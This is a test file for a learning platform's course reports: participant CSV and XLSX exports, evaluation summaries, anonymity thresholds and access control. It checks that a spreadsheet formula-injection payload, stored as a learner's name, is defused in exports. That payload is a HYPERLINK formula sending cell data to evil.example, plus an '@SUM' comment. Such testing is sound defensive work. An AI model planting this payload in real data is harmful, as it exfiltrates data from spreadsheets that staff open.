import { courseAccreditations, evaluationResponses, identities, users } from '@lms/db';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import t from 'tap';
import { makeInstitution, makeUser, sessionCookieFor } from '../helpers/fixtures.js';
import { learningWorld } from '../learning/world.js';
import { accredit, markTests, seedEvidence } from './fixtures.js';

// Reports per body: the participant list for a course and period as CSV (formulas defused) and
// XLSX (read back with exceljs: strings stay strings), the evaluation summary with no identities,
// and who may read them: the course's managers only.

const w = await learningWorld(t);
const db = w.db;
const courseId = w.course.id;
const chapterId = w.chapterList[0]!.id;
const preQuiz = await w.quizOfChapter(chapterId);
await markTests(db, preQuiz.id, w.tree.finalQuizId);
// The world's course is accredited in KUM by its fixture: this one is under SKP-KEMENKES only.
await db.delete(courseAccreditations).where(eq(courseAccreditations.courseId, courseId));
const accreditationId = await accredit(db, courseId);
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

// A: in the period, every piece of evidence, a hostile name and membership number.
const a = w.learner.user;
await db.update(users).set({ name: EVIL, membershipId: '+62-0001' }).where(eq(users.id, a.id));
await db.insert(identities).values({ issuer: 'pkb.example.org', membershipId: 'PKB-1', userId: a.id, origin: 'sso' });
const codeA = await seedEvidence(db, {
  courseId,
  chapterId,
  userId: a.id,
  minutes: 130,
  pre: { quizId: preQuiz.id, score: 40 },
  post: { quizId: w.tree.finalQuizId, score: 85 },
  evaluation: true,
  certificate: {
    issuedAt: new Date('2026-03-01T10:00:00Z'),
    expiresAt: new Date('2031-03-01T10:00:00Z'),
    credit: { scheme: 'SKP-KEMENKES', accreditationId, amount: 2 },
  },
});
// B: enrolled, nothing yet. C: certificate of 2025 (outside the period by certificate date).
const b = await w.newLearner();
const c = await w.newLearner();
await seedEvidence(db, {
  courseId,
  chapterId,
  userId: c.user.id,
  minutes: 50,
  certificate: { issuedAt: new Date('2025-06-01T00:00:00Z') },
});
await db.insert(evaluationResponses).values([
  { courseId, answers: { material: 5, speaker: 4, organisation: 3, relevance: 4 }, comment: '@SUM(1+1) great', submittedOn: '2026-03-01' },
  { courseId, answers: { material: 4, speaker: 4, organisation: 5, relevance: 5 }, comment: '', submittedOn: '2026-03-02' },
  { courseId, answers: { material: 3, speaker: 4, organisation: 4, relevance: 4 }, comment: '', submittedOn: '2026-03-03' },
]);

const cookieOf = async (role: 'student' | 'teacher' | 'admin' | 'super_admin', institutionId: number | null) =>
  sessionCookieFor(w.app, (await makeUser(db, { role, institutionId })).id, 86_400_000);
const owner = await sessionCookieFor(w.app, w.teacher.id, 86_400_000);
const other = await makeInstitution(db, 'Other');
const get = (cookie: string | null, url: string, lang = 'en') =>
  w.app.inject({ url, headers: { ...(cookie ? { cookie } : {}), 'accept-language': lang } });
const base = `/dashboard/courses/${courseId}/reports`;
const PERIOD = 'from=2026-01-01&to=2027-01-01';

t.test('the CSV: the period by certificate date, every column, formulas defused', async (t) => {
  const res = await get(owner, `${base}/participants.csv?${PERIOD}`);
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/csv/);
  t.equal(res.headers['content-disposition'], `attachment; filename="course-${courseId}-participants-2026-01-01-2027-01-01.csv"`);
  const lines = res.body.trim().split('\r\n');
  t.equal(lines.length, 2, 'the header and A only');
  t.equal(
    lines[0],
    '"name","membership_id","partner_membership_ids","profession","enrolled_at","minutes","attendance_percent","pre_test_score","post_test_score","evaluation_done","certificate_code","certificate_issued_at","certificate_expires_at","credit_SKP-KEMENKES","accreditation_SKP-KEMENKES"',
  );
  t.ok(lines[1]!.startsWith(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","'+62-0001","pkb.example.org: PKB-1",,`), lines[1]);
  t.match(lines[1], `,130,,40,85,"yes","${codeA}","2026-03-01T10:00:00.000Z","2031-03-01T10:00:00.000Z",2,"KEMKES/2026/77"`);
  const byEnrolment = await get(owner, `${base}/participants.csv?${PERIOD}&basis=enrolment`);
  t.equal(byEnrolment.body.trim().split('\r\n').length, 4, 'by enrolment date: A, B and C');
  t.match(byEnrolment.body, /,0,,,,"no",,,,,\r\n/, 'B: no minutes, no scores, no certificate');
});

t.test('the XLSX, read back: both sheets, strings stay strings, no formula anywhere', async (t) => {
  const res = await get(owner, `${base}/participants.xlsx?${PERIOD}&basis=enrolment`);
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const sheet = wb.getWorksheet('Participants')!;
  t.equal(sheet.actualRowCount, 4);
  t.equal(sheet.getCell('A1').value, 'name');
  const rowA = [2, 3, 4].map((n) => sheet.getRow(n)).find((r) => r.getCell(11).value === codeA)!;
  t.equal(rowA.getCell(1).value, EVIL, 'the name exactly as written');
  t.equal(rowA.getCell(1).type, ExcelJS.ValueType.String, 'a string cell');
  t.equal(rowA.getCell(6).value, 130);
  t.equal(rowA.getCell(9).value, 85);
  t.equal(rowA.getCell(14).value, 2);
  t.equal(rowA.getCell(15).value, 'KEMKES/2026/77');
  let formulas = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas += 1;
      }),
    ),
  );
  t.equal(formulas, 0, 'no formula cell');
  const evaluation = wb.getWorksheet('Evaluation')!;
  t.same(evaluation.getRow(2).values, [
    undefined,
    'material',
    'Materi sesuai dengan tujuan pembelajaran',
    'The material matched the learning objectives',
    4,
    3,
  ]);
  const cells = evaluation
    .getSheetValues()
    .flat()
    .filter((v) => typeof v === 'string');
  t.ok(cells.includes('@SUM(1+1) great'), 'the comment, as text');
  t.notOk(
    cells.some((v) => v.includes(a.email) || v.includes(EVIL)),
    'no identity in the summary',
  );
});

t.test('the page and the evaluation CSV: averages and comments, nobody named', async (t) => {
  for (const [lang, words] of [
    ['en', 'Reports per body'],
    ['id', 'Laporan per lembaga'],
  ] as const) {
    const page = await get(owner, `${base}?${PERIOD}`, lang);
    t.equal(page.statusCode, 200);
    t.match(page.body, words);
    t.match(page.body, '@SUM(1+1) great');
    t.notMatch(page.body, 'HYPERLINK', 'no learner on the summary');
  }
  const learners = await get(owner, `/dashboard/courses/${courseId}/learners`);
  t.match(learners.body, `href="/dashboard/courses/${courseId}/reports"`, "linked from the course's learners page");
  const csv = await get(owner, `${base}/evaluation.csv?${PERIOD}`);
  t.equal(csv.statusCode, 200);
  t.match(csv.body, '"material","Materi sesuai dengan tujuan pembelajaran","The material matched the learning objectives",4,3');
  t.match(csv.body, `"'@SUM(1+1) great"`, 'defused');
  // Two responses in the period: a comment could give its writer away, so none is shown.
  const few = 'from=2026-03-01&to=2026-03-03';
  const fewPage = await get(owner, `${base}?${few}`, 'en');
  t.notMatch(fewPage.body, '@SUM(1+1) great', 'no comment under 3 responses');
  t.match(fewPage.body, 'Averages and comments are shown from 3 responses on');
  t.match(fewPage.body, /The material matched the learning objectives<\/td><td class="num">—<\/td>/, 'no average under 3 responses');
  t.notMatch((await get(owner, `${base}/evaluation.csv?${few}`)).body, '@SUM', 'nor in the CSV');
});

t.test('only the course managers: owner, institution admin, super_admin', async (t) => {
  const urls = [base, `${base}/participants.csv`, `${base}/participants.xlsx`, `${base}/evaluation.csv`];
  const allowed = [await cookieOf('admin', w.course.institutionId), await cookieOf('super_admin', null)];
  const refused = [
    await cookieOf('teacher', w.course.institutionId),
    await cookieOf('teacher', other),
    await cookieOf('admin', other),
    b.cookie,
    w.learner.cookie,
  ];
  for (const url of urls) {
    for (const cookie of allowed) t.equal((await get(cookie, url)).statusCode, 200, url);
    for (const cookie of refused) t.equal((await get(cookie, url)).statusCode, 403, url);
    t.equal((await get(null, url)).statusCode, 302, 'signed out: to sign-in');
  }
  t.equal((await get(owner, `/dashboard/courses/999999/reports/participants.csv`)).statusCode, 404);
});

// A page's wrong query is its 404 page (pages/index.ts: every page answers a wrong URL so), never a 500.
t.test('wrong periods are 404 pages, never 500', async (t) => {
  for (const q of [
    'from=2026-13-01',
    'from=2026-02-30',
    'to=yesterday',
    'from=2027-01-01&to=2026-01-01',
    'basis=issue',
    'extra=1',
    'from=2026-01-01&from=2026-02-01',
  ]) {
    for (const url of [base, `${base}/participants.csv`, `${base}/participants.xlsx`])
      t.equal((await get(owner, `${url}?${q}`)).statusCode, 404, `${url}?${q}`);
  }
});
